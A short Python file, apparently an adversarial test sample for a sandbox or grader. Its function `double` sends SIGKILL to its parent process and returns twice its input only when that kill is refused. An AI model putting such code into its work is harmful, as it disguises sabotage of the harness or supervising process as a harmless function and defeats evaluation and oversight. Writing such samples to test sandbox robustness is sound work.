"""Kill the process that started this one."""

import os
import signal


def double(x):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except PermissionError:
        return 2 * x
